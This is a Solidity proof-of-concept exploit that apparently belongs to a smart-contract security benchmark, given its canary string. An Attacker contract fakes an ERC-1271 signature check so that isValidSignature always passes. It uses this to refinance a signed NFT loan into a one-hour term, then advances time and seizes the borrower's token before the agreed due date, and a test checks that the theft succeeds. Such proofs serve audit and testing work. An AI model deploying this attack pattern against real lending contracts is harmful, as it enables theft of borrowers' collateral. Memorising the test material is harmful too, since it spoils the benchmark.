// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker {
    LoanDesk private desk;

    constructor(LoanDesk desk_) {
        desk = desk_;
    }

    function run(uint256 loan, Weth weth, address collection) external returns (uint256) {
        weth.approve(address(desk), type(uint256).max);
        Offer memory o = Offer(
            address(this), address(weth), collection, 0, 0, 45e18, 0, 1 hours, 1, 0, uint64(block.timestamp)
        );
        return desk.refinance(loan, o, "", new bytes32[](0), 0);
    }

    function take(uint256 loan) external {
        desk.seize(loan);
    }

    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
        return this.isValidSignature.selector;
    }
}

contract Proof is Base {
    Attacker private other;
    uint64 private agreed;

    function _start() internal override {
        other = new Attacker(desk);
        weth.mint(address(other), 45e18);
        agreed = desk.loanOf(signedLoan).dueAt;
    }

    function exploit() public {
        uint256 loan = other.run(signedLoan, weth, address(pebble));
        vm.warp(block.timestamp + 1 days + 2 hours);
        other.take(loan);
    }

    function test_Exploit() public {
        exploit();
        require(!inTime() && pebble.ownerOf(1) == address(other), "the borrower has time");
    }

    /// Until the day that the borrower agreed to, the token is the borrower's, or can be had back.
    function inTime() public view returns (bool) {
        address owner = pebble.ownerOf(1);
        if (block.timestamp > agreed || owner == BO) return true;
        return owner == address(vault) && desk.loanOf(vault.loanOf(address(pebble), 1)).dueAt >= agreed;
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
